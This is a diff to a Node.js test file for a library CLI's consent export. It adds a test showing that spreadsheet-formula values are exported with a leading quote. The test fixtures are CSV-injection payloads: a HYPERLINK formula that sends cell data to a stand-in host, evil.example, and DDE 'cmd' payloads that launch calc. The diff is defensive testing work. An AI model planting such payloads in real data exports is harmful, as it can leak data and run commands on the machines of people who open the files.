@@ -5,6 +5,7 @@ import { createWriteStream, mkdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { fileURLToPath } from 'node:url'
 import { after, before, describe, test } from 'node:test'
+import { parse as parseCsv } from 'csv-parse/sync'
 import { verifySecret } from '../../src/services/passwords.js'
 import { openStore, type Store } from '../../src/store/store.js'
 import { startTestApp, type TestApp } from '../support/testApp.js'
@@ -294,8 +295,8 @@ describe('webpac CLI (SPEC 6)', () => {
       assert.equal(all.code, 0, all.stderr)
       assert.equal(all.stdout, [
         'id,at,patron_id,barcode,e164,from_status,to_status,channel,reason,terms_hash,ip,user_agent,inbound_message_id,actor',
-        '1,2025-01-10T12:00:00.000Z,1,6100000000001,+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,"Browser ""Quoted"", with comma",,',
-        '2,2025-02-10T12:00:00.000Z,1,6100000000001,+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,"Line\nbreak",,',
+        "1,2025-01-10T12:00:00.000Z,1,6100000000001,'+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,\"Browser \"\"Quoted\"\", with comma\",,",
+        "2,2025-02-10T12:00:00.000Z,1,6100000000001,'+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,\"Line\nbreak\",,",
         '',
       ].join('\r\n'))
 
@@ -304,6 +305,41 @@ describe('webpac CLI (SPEC 6)', () => {
 
       assert.equal(bad.code, 2)
       assert.match(bad.stderr, /YYYY-MM-DD/)
+    })
+
+    test('finding 6: a User-Agent written as a spreadsheet formula is exported with a leading quote, so a spreadsheet shows it as text and runs nothing', async () => {
+      const dir = join(app.dir, 'formulas')
+      mkdirSync(dir)
+      writeFileSync(join(dir, 'messages.conf'), '')
+      writeFileSync(join(dir, 'webpub.def'), '')
+      const own = openStore({ dataDir: join(dir, 'data') })
+      const attacks = [
+        '=HYPERLINK("https://evil.example/?d="&B2,"Click")',
+        '+cmd|\' /C calc\'!A0',
+        '-2+3+cmd|\' /C calc\'!A0',
+        '@SUM(1+1)*cmd|\' /C calc\'!A0',
+        '\t=1+1',
+        '\r=1+1',
+      ]
+      for (const [index, userAgent] of attacks.entries()) {
+        await own.repos.consent.append({
+          patron_id: 1, barcode: `=${index}`, e164: '+12015550123', from_status: 'not_opted_in', to_status: 'pending_optin',
+          channel: 'web', reason: 'web_opt_in', terms_hash: null, at: `2025-03-0${index + 1}T12:00:00.000Z`, ip: '192.0.2.1',
+          user_agent: userAgent, inbound_message_id: null, actor: '@staff',
+        })
+      }
+      await own.close()
+
+      const run = await runCli(dir, ['consent', 'export'])
+      assert.equal(run.code, 0, run.stderr)
+      assert.match(run.stdout, /,"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&B2,""Click""\)",/)
+      const rows = parseCsv(run.stdout, { columns: true }) as Record<string, string>[]
+      assert.deepEqual(rows.map((row) => row.user_agent), attacks.map((attack) => `'${attack}`), 'each value stays readable after the quote')
+      assert.deepEqual(rows.map((row) => row.barcode), attacks.map((_, index) => `'=${index}`))
+      assert.deepEqual(new Set(rows.map((row) => row.actor)), new Set(["'@staff"]))
+      for (const row of rows) {
+        for (const [column, value] of Object.entries(row)) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${column} could start a formula`)
+      }
     })
   })
 })
